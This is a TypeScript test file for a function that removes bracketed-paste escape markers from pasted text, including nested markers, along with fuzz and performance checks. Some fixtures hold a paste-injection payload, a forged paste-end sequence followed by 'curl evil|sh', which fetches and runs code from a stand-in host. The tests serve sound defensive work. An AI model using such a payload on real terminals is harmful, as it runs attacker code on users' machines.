import { describe, expect, it } from "vitest";
import { withoutPasteMarks } from "./brackets.ts";

const MARKS = ["\x1b[200~", "\x1b[201~", "\x9b200~", "\x9b201~"];
const holdsMark = (text: string) => MARKS.some((mark) => text.includes(mark));

/** Every way to put one text into another. */
const nestings = (outer: string, inner: string) =>
  Array.from({ length: outer.length + 1 }, (_, at) => outer.slice(0, at) + inner + outer.slice(at));

describe("a paste within brackets", () => {
  it.each([
    ["hi\x1b[201~\ncurl evil|sh\n", "hi␛[201~\ncurl evil|sh\n"],
    ["hi\x1b[20\x1b[201~1~\ncurl evil|sh\n", "hi\x1b[20␛[201~1~\ncurl evil|sh\n"],
    ["hi\x9b20\x9b201~1~", "hi\x9b20␛[201~1~"],
    ["\x1b\x1b[200~[201~", "\x1b␛[200~[201~"],
  ])("cannot end them: %j", (text, typed) => {
    expect(withoutPasteMarks(text)).toBe(typed);
  });

  it("cannot end them by marks within marks", () => {
    const twice = MARKS.flatMap((outer) => MARKS.flatMap((inner) => nestings(outer, inner)));
    const thrice = twice.flatMap((outer) => MARKS.flatMap((inner) => nestings(outer, inner)));
    for (const text of [...twice, ...thrice]) expect(holdsMark(withoutPasteMarks(text)), text).toBe(false);
  });

  it("cannot end them by any of their letters", () => {
    const letters = "\x1b\x9b[201~";
    for (let seed = 1, round = 0; round < 20_000; round++) {
      let text = "";
      for (let length = 0; length < 24; length++) {
        seed = (seed * 48_271) % 2_147_483_647;
        text += letters[seed % letters.length];
      }
      expect(holdsMark(withoutPasteMarks(text)), text).toBe(false);
    }
  });

  it("is as it was but for that, and as quick where there is much", () => {
    for (const text of ["a\n\tb 日本語", "\x1b[31mred\x1b[0m", "\x1b[20", "201~", "\x1b[2010~"]) {
      expect(withoutPasteMarks(text)).toBe(text);
    }
    const deep = "\x1b[20".repeat(100_000) + "1~".repeat(100_000);
    expect(holdsMark(withoutPasteMarks(deep))).toBe(false);
  });
});
